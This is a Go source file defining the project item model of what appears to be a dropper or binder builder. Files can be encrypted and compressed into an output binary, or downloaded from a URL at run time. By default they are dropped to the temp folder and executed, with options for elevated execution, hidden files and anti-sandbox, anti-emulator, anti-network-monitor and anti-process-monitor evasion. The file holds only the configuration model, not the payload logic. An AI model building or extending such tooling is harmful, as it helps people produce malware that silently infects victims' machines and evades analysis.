package project

import (
	"net/url"
	"path"
	"path/filepath"
	"strings"

	"github.com/google/uuid"
)

// ItemKind tags the variant of an Item.
type ItemKind int

const (
	KindFile ItemKind = iota
	KindUrl
	KindMessageBox
)

func (k ItemKind) String() string {
	switch k {
	case KindFile:
		return "File"
	case KindUrl:
		return "Url"
	case KindMessageBox:
		return "MessageBox"
	default:
		return "ItemKind(?)"
	}
}

// Item is one entry of a project's item list. The set of implementations is
// closed: *FileItem, *UrlItem and *MessageBoxItem.
type Item interface {
	// ID identifies the item for the lifetime of the process. It is not
	// persisted.
	ID() uuid.UUID
	Kind() ItemKind
	// Project returns the owning project, or nil for a detached item.
	Project() *Project

	base() *itemBase
}

// Droppable is implemented by the items that write a file to disk at run
// time: *FileItem and *UrlItem.
type Droppable interface {
	Item
	Name() string
	DropLocation() DropLocation
	DropAction() DropAction
	RunAsElevated() bool
	CommandLine() string
	AntiSandbox() bool
	AntiNetworkMonitor() bool
	AntiProcessMonitor() bool
	AntiEmulator() bool
	Hidden() bool
}

type itemBase struct {
	id    uuid.UUID
	owner *Project
}

func newItemBase() itemBase { return itemBase{id: uuid.New()} }

func (b *itemBase) ID() uuid.UUID     { return b.id }
func (b *itemBase) Project() *Project { return b.owner }
func (b *itemBase) base() *itemBase   { return b }

// changed routes an item mutation through the owning project.
func (b *itemBase) changed(field string) {
	if b.owner != nil {
		b.owner.itemChanged(b.id, field)
	}
}

func setItemField[T any](b *itemBase, dst *T, v T, field string) {
	*dst = v
	b.changed(field)
}

// dropSettings holds the fields shared by every Droppable.
type dropSettings struct {
	itemBase

	name               string
	dropLocation       DropLocation
	dropAction         DropAction
	runAsElevated      bool
	commandLine        string
	antiSandbox        bool
	antiNetworkMonitor bool
	antiProcessMonitor bool
	antiEmulator       bool
	hidden             bool
}

func (d *dropSettings) Name() string               { return d.name }
func (d *dropSettings) DropLocation() DropLocation { return d.dropLocation }
func (d *dropSettings) DropAction() DropAction     { return d.dropAction }
func (d *dropSettings) RunAsElevated() bool        { return d.runAsElevated }
func (d *dropSettings) CommandLine() string        { return d.commandLine }
func (d *dropSettings) AntiSandbox() bool          { return d.antiSandbox }
func (d *dropSettings) AntiNetworkMonitor() bool   { return d.antiNetworkMonitor }
func (d *dropSettings) AntiProcessMonitor() bool   { return d.antiProcessMonitor }
func (d *dropSettings) AntiEmulator() bool         { return d.antiEmulator }
func (d *dropSettings) Hidden() bool               { return d.hidden }

// SetName sets the file name the item is dropped as.
func (d *dropSettings) SetName(v string) { setItemField(&d.itemBase, &d.name, v, "Name") }

func (d *dropSettings) SetDropLocation(v DropLocation) {
	setItemField(&d.itemBase, &d.dropLocation, v, "DropLocation")
}

func (d *dropSettings) SetDropAction(v DropAction) {
	setItemField(&d.itemBase, &d.dropAction, v, "DropAction")
}

func (d *dropSettings) SetRunAsElevated(v bool) {
	setItemField(&d.itemBase, &d.runAsElevated, v, "RunAsElevated")
}

func (d *dropSettings) SetCommandLine(v string) {
	setItemField(&d.itemBase, &d.commandLine, v, "CommandLine")
}

func (d *dropSettings) SetAntiSandbox(v bool) {
	setItemField(&d.itemBase, &d.antiSandbox, v, "AntiSandbox")
}

func (d *dropSettings) SetAntiNetworkMonitor(v bool) {
	setItemField(&d.itemBase, &d.antiNetworkMonitor, v, "AntiNetworkMonitor")
}

func (d *dropSettings) SetAntiProcessMonitor(v bool) {
	setItemField(&d.itemBase, &d.antiProcessMonitor, v, "AntiProcessMonitor")
}

func (d *dropSettings) SetAntiEmulator(v bool) {
	setItemField(&d.itemBase, &d.antiEmulator, v, "AntiEmulator")
}

// SetHidden sets whether the dropped file gets the hidden attribute.
func (d *dropSettings) SetHidden(v bool) { setItemField(&d.itemBase, &d.hidden, v, "Hidden") }

// FileItem is a local file embedded into the output binary.
type FileItem struct {
	dropSettings

	sourcePath string
	compress   bool
	encrypt    bool
}

// NewFileItem returns a detached file item for the absolute sourcePath. The
// drop name defaults to the source file name.
func NewFileItem(sourcePath string) *FileItem {
	return &FileItem{
		dropSettings: dropSettings{
			itemBase:     newItemBase(),
			name:         baseName(sourcePath),
			dropLocation: DropLocationTemp,
			dropAction:   DropActionExecute,
		},
		sourcePath: sourcePath,
		compress:   true,
		encrypt:    true,
	}
}

func (f *FileItem) Kind() ItemKind     { return KindFile }
func (f *FileItem) SourcePath() string { return f.sourcePath }
func (f *FileItem) Compress() bool     { return f.compress }
func (f *FileItem) Encrypt() bool      { return f.encrypt }

// SourceFileName is the base name of the source file. It labels the
// validation issues of this item.
func (f *FileItem) SourceFileName() string { return baseName(f.sourcePath) }

func (f *FileItem) SetSourcePath(v string) {
	setItemField(&f.itemBase, &f.sourcePath, v, "SourcePath")
}

func (f *FileItem) SetCompress(v bool) { setItemField(&f.itemBase, &f.compress, v, "Compress") }
func (f *FileItem) SetEncrypt(v bool)  { setItemField(&f.itemBase, &f.encrypt, v, "Encrypt") }

// UrlItem is a file downloaded at run time.
type UrlItem struct {
	dropSettings

	url string
}

// NewUrlItem returns a detached URL item. The drop name defaults to the last
// path segment of rawURL, if any.
func NewUrlItem(rawURL string) *UrlItem {
	return &UrlItem{
		dropSettings: dropSettings{
			itemBase:     newItemBase(),
			name:         nameFromURL(rawURL),
			dropLocation: DropLocationTemp,
			dropAction:   DropActionExecute,
		},
		url: rawURL,
	}
}

func baseName(p string) string {
	if strings.TrimSpace(p) == "" {
		return ""
	}
	return filepath.Base(p)
}

func nameFromURL(rawURL string) string {
	u, err := url.Parse(strings.TrimSpace(rawURL))
	if err != nil || u.Path == "" {
		return ""
	}
	name := path.Base(u.Path)
	if name == "/" || name == "." {
		return ""
	}
	return name
}

func (u *UrlItem) Kind() ItemKind { return KindUrl }
func (u *UrlItem) URL() string    { return u.url }
func (u *UrlItem) SetURL(v string) {
	setItemField(&u.itemBase, &u.url, v, "Url")
}

// MessageBoxItem is a message box shown at run time.
type MessageBoxItem struct {
	itemBase

	title   string
	text    string
	buttons MessageBoxButtons
	icon    MessageBoxIcon
}

// NewMessageBoxItem returns a detached, empty message box with an OK button.
func NewMessageBoxItem() *MessageBoxItem {
	return &MessageBoxItem{
		itemBase: newItemBase(),
		buttons:  ButtonsOK,
		icon:     IconInformation,
	}
}

func (m *MessageBoxItem) Kind() ItemKind             { return KindMessageBox }
func (m *MessageBoxItem) Title() string              { return m.title }
func (m *MessageBoxItem) Text() string               { return m.text }
func (m *MessageBoxItem) Buttons() MessageBoxButtons { return m.buttons }
func (m *MessageBoxItem) Icon() MessageBoxIcon       { return m.icon }

func (m *MessageBoxItem) SetTitle(v string) { setItemField(&m.itemBase, &m.title, v, "Title") }
func (m *MessageBoxItem) SetText(v string)  { setItemField(&m.itemBase, &m.text, v, "Text") }

func (m *MessageBoxItem) SetButtons(v MessageBoxButtons) {
	setItemField(&m.itemBase, &m.buttons, v, "Buttons")
}

func (m *MessageBoxItem) SetIcon(v MessageBoxIcon) {
	setItemField(&m.itemBase, &m.icon, v, "Icon")
}

var (
	_ Droppable = (*FileItem)(nil)
	_ Droppable = (*UrlItem)(nil)
	_ Item      = (*MessageBoxItem)(nil)
)
